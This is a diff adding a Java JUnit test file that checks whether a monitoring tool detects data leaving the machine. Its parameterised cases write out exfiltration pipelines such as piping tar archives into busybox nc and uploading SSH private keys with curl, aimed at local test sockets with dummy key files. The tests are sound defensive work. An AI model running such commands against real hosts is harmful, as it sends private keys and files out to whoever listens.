@@ -1,0 +1,151 @@
+package io.totem.policy.behaviour;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assumptions.assumeThat;
+
+import io.totem.policy.facts.Relations.Outflow;
+import java.io.IOException;
+import java.net.Inet4Address;
+import java.net.InetAddress;
+import java.net.NetworkInterface;
+import java.net.ServerSocket;
+import java.net.Socket;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.Optional;
+import java.util.Random;
+import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
+
+/** Data on its way over a connection to an address of this machine that is not the loopback's. */
+class RealOutflowTest {
+
+    private final WatchedHost host = new WatchedHost();
+
+    @TempDir
+    Path folder;
+
+    @AfterEach
+    void end() throws InterruptedException {
+        host.close();
+    }
+
+    @ParameterizedTest
+    @CsvSource(delimiter = '~', textBlock = """
+                    tar c $F | busybox nc $A $P~tar
+                    tar c $F | gzip | busybox nc $A $P~tar
+                    dd if=$F/x 2>/dev/null | cat | busybox nc $A $P~dd
+                    cat $F/x | busybox nc $A $P~cat
+                    tar c $F | curl -sT - telnet://$A:$P~tar
+                    """)
+    void what_an_archiver_or_a_file_hands_on_is_told(String pipeline, String from) throws IOException {
+        try (ServerSocket server = new ServerSocket(0, 1, outside())) {
+            Process sends = host.start("bash", "-c", filled(pipeline, server));
+            try (Socket _ = server.accept()) {
+                assertThat(host.below(sends, seen -> seen.relations().outflow().isPresent())
+                                .relations()
+                                .outflow()
+                                .orElseThrow())
+                        .satisfies(outflow -> {
+                            assertThat(outflow.from()).isEqualTo(from);
+                            assertThat(outflow.secret()).isEmpty();
+                            assertThat(outflow.to().remotePort()).isEqualTo(server.getLocalPort());
+                        });
+            }
+        }
+    }
+
+    @Test
+    void a_file_that_is_put_in_is_told_and_so_is_a_key() throws IOException {
+        try (ServerSocket server = new ServerSocket(0, 1, outside())) {
+            Path key = Files.createDirectory(folder.resolve(".ssh")).resolve("id_rsa");
+            Files.writeString(key, "x".repeat(4_000_000));
+            Process sends = host.start("bash", "-c", filled("busybox nc $A $P < " + key, server));
+            try (Socket _ = server.accept()) {
+                assertThat(host.below(sends, seen -> seen.relations().outflow().isPresent())
+                                .relations()
+                                .outflow())
+                        .flatMap(Outflow::secret)
+                        .contains(key.toString());
+            }
+        }
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "curl -sT $K telnet://$A:$P",
+                "curl -s --data-binary @$K http://$A:$P/",
+                "curl -sF k=@$K http://$A:$P/"
+            })
+    void a_key_that_curl_is_told_to_send_is_told_and_another_file_is_not(String command) throws IOException {
+        try (ServerSocket server = new ServerSocket(0, 2, outside())) {
+            Path keys = Files.createDirectory(folder.resolve(".ssh"));
+            Path key = Files.writeString(keys.resolve("id_ed25519"), "x".repeat(4_000_000));
+            Path other = Files.writeString(folder.resolve("photo.jpg"), "x".repeat(4_000_000));
+            Process sends = host.start("bash", "-c", filled(command.replace("$K", key.toString()), server) + "; true");
+            Process shows =
+                    host.start("bash", "-c", filled(command.replace("$K", other.toString()), server) + "; true");
+            assertThat(host.below(sends, seen -> seen.relations().outflow().isPresent())
+                            .relations()
+                            .outflow())
+                    .flatMap(Outflow::secret)
+                    .contains(key.toString());
+            host.neverBelow(shows, "curl", seen -> seen.relations().outflow().isPresent());
+        }
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "while sleep 1; do echo metric; done | busybox nc $A $P",
+                "tail -f $F/x | busybox nc $A $P",
+                "tar c $F | (sleep 60; busybox nc $A $P)"
+            })
+    void a_script_or_a_log_is_not(String pipeline) throws IOException {
+        try (ServerSocket server = new ServerSocket(0, 1, outside())) {
+            Process sends = host.start("bash", "-c", filled(pipeline, server));
+            host.neverBelow(
+                    sends,
+                    pipeline.startsWith("tar") ? "sleep" : "busybox",
+                    seen -> seen.relations().outflow().isPresent());
+        }
+    }
+
+    @Test
+    void what_stays_on_this_machine_is_not() throws IOException {
+        try (ServerSocket server = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
+            Files.writeString(folder.resolve("x"), "x".repeat(4_000_000));
+            Process sends =
+                    host.start("bash", "-c", "tar c " + folder + " | busybox nc 127.0.0.1 " + server.getLocalPort());
+            try (Socket _ = server.accept()) {
+                host.neverBelow(
+                        sends, "busybox", seen -> seen.relations().outflow().isPresent());
+            }
+        }
+    }
+
+    private String filled(String text, ServerSocket server) throws IOException {
+        if (!Files.exists(folder.resolve("x"))) {
+            byte[] noise = new byte[8_000_000];
+            new Random(1).nextBytes(noise);
+            Files.write(folder.resolve("x"), noise);
+        }
+        return text.replace("$F", folder.toString())
+                .replace("$A", server.getInetAddress().getHostAddress())
+                .replace("$P", Integer.toString(server.getLocalPort()));
+    }
+
+    private static InetAddress outside() throws IOException {
+        Optional<InetAddress> own = NetworkInterface.networkInterfaces()
+                .flatMap(NetworkInterface::inetAddresses)
+                .filter(address -> address instanceof Inet4Address && !address.isLoopbackAddress())
+                .findFirst();
+        assumeThat(own).isPresent();
+        return own.get();
+    }
+}
